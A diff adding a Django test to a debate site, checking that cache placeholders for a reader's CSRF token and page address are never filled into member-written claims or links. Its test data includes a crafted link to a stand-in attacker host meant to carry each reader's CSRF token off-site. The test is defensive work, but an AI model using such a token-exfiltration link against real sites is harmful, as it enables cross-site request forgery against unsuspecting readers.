@@ -130,3 +130,30 @@ def test_signed_in_readers_get_their_own_render(client, debate):
     client.force_login(author)
     html = page(client, motion)
     assert f"/arguments/{argument.pk}/edit/" in html, "the author's own tools are not cached"
+
+
+def test_what_people_write_never_has_a_reader_s_token_or_address_filled_in(client, debate):
+    """The placeholders of a shared tree are filled in where the templates put them alone: a
+    member who spells one in her link or claim gets her words shown as written, not a way to
+    send each reader's CSRF token to her site."""
+    motion, _, author = debate
+    link = "https://evil.example/?t=__crux_csrf_token__&at=__crux_here__"
+    services.post_argument(
+        author=author,
+        motion=motion,
+        parent=None,
+        stance="pro",
+        claim="Token __crux_csrf_token__ here __crux_here__",
+        details=f"[See the evidence]({link})",
+        source_url=link,
+    )
+    reader = Client()
+    reader.force_login(verified_user(display_name="Reading Rita"))
+    for url in (motion.get_absolute_url(), reverse("more_motion_replies", args=[motion.slug])):
+        for viewer in (client, reader):
+            html = viewer.get(url).content.decode()
+            assert html.count("Token __crux_csrf_token__ here __crux_here__") == 1, url
+            assert html.count(link.replace("&", "&amp;")) >= 2
+            # Every vote form still carries the reader's own token and comes back to the page.
+            tokens = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)
+            assert tokens and "__crux_csrf_token__" not in tokens
